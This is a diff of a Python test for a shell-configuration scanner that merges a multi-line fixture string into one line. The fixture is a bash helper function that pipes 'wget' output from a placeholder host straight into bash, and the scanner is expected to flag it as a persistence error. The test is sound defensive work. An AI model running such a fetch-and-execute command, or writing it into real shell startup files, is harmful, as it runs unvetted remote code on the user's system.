@@ -39,10 +39,7 @@ def test_a_set_up_eval_beside_a_helper_function_is_not_running_code(tmp_path: Pa
 
 def test_a_helper_function_that_fetches_and_runs_beside_a_set_up_eval_is_an_error(tmp_path: Path) -> None:
     written = (
-        'eval "$(direnv hook bash)"\n'
-        "refresh() {\n"
-        "  wget -qO- https://tools.example.invalid/refresh.sh | bash\n"
-        "}\n"
+        'eval "$(direnv hook bash)"\nrefresh() {\n  wget -qO- https://tools.example.invalid/refresh.sh | bash\n}\n'
     )
     assert _persistence(tmp_path, written) == [("PERSISTENCE", "error")]
 
